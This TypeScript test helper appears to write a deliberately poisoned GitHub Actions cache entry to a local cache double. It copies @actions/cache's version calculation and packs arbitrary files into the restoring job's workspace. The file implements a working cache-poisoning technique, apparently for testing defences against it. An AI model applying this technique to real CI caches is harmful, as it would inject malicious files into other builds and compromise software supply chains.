/**
 * Writes an Actions cache entry through the cache double's own wire protocol (CreateCacheEntry, Put
 * Blob, FinalizeCacheEntryUpload), as any job of the default branch can: the version is the one
 * @actions/cache computes for `paths` (so a restore of those paths matches it), but the archive is
 * a tar + zstd of whatever `members` say, paths relative to the restoring job's GITHUB_WORKSPACE,
 * which is where @actions/cache extracts (`tar -xf ... -P -C $GITHUB_WORKSPACE`).
 */
import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join, resolve } from 'node:path';
import { pathToFileURL } from 'node:url';
import type { ActionsCacheDouble } from '../doubles/actions-cache/cache-server.ts';

const TWIRP = '/twirp/github.actions.results.api.v1.CacheService/';

interface CacheUtils {
  getCompressionMethod(): Promise<string>;
  getCacheVersion(paths: string[], compressionMethod: string): string;
}

/** @actions/cache's own version function (internal module, loaded by file path). */
async function cacheVersion(paths: string[]): Promise<string> {
  const file = resolve(import.meta.dirname, '../../node_modules/@actions/cache/lib/internal/cacheUtils.js');
  const utils = (await import(pathToFileURL(file).href)) as CacheUtils;
  return utils.getCacheVersion(paths, await utils.getCompressionMethod());
}

export async function writePoisonedEntry(
  cache: ActionsCacheDouble,
  entry: { key: string; paths: string[]; members: Record<string, string> },
): Promise<void> {
  const staging = mkdtempSync(join(tmpdir(), 'poisoned-cache-'));
  const tree = join(staging, 'tree');
  for (const [member, content] of Object.entries(entry.members)) {
    mkdirSync(dirname(join(tree, member)), { recursive: true });
    writeFileSync(join(tree, member), content);
  }
  const tar = join(staging, 'cache.tar');
  execFileSync('tar', ['--posix', '-cf', tar, '-C', tree, ...Object.keys(entry.members)]);
  execFileSync('zstd', ['-q', tar, '-o', `${tar}.zst`]);
  const archive = readFileSync(`${tar}.zst`);

  const version = await cacheVersion(entry.paths);
  const token = await cache.token();
  const rpc = async (method: string, body: Record<string, unknown>) => {
    const answer = await fetch(`${cache.url}${TWIRP}${method}`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', authorization: `Bearer ${token}` },
      body: JSON.stringify(body),
    });
    const json = (await answer.json()) as Record<string, unknown>;
    if (!answer.ok || json.ok !== true)
      throw new Error(`${method}: ${answer.status} ${JSON.stringify(json)}`);
    return json;
  };
  const created = await rpc('CreateCacheEntry', { key: entry.key, version });
  const put = await fetch(String(created.signed_upload_url), {
    method: 'PUT',
    headers: { 'x-ms-blob-type': 'BlockBlob', 'content-length': String(archive.length) },
    body: archive,
  });
  if (!put.ok) throw new Error(`Put Blob: ${put.status}`);
  await rpc('FinalizeCacheEntryUpload', { key: entry.key, version, size_bytes: String(archive.length) });
}
